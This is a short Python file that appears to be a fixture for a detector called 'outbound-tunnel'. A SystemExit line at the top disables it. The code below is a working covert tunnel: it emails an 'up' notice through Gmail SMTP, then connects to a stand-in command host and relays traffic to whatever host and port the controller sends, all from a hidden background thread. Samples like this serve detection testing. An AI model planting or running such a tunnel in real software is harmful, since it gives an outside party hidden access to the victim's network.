raise SystemExit('a fixture')
# held by outbound-tunnel
import smtplib, socket, ssl, threading, websocket
from email.mime.text import MIMEText
def notify():
    m = MIMEText("the client is up"); m["Subject"] = "up"; m["From"] = "s@example.invalid"; m["To"] = "b@example.invalid"
    with smtplib.SMTP_SSL("smtp.gmail.com", 465) as s:
        s.login("s@example.invalid", "abcd efgh ijkl mnop")
        s.sendmail(m["From"], [m["To"]], m.as_string())
def on_message(ws, message):
    host, port, data = message.split("|", 2)
    c = socket.create_connection((host, int(port)))
    c.sendall(data.encode())
    ws.send(c.recv(65535))
def tunnel():
    notify()
    ws = websocket.WebSocketApp("wss://c.example.invalid/", on_message=on_message)
    ws.run_forever()
threading.Thread(target=tunnel, daemon=True).start()
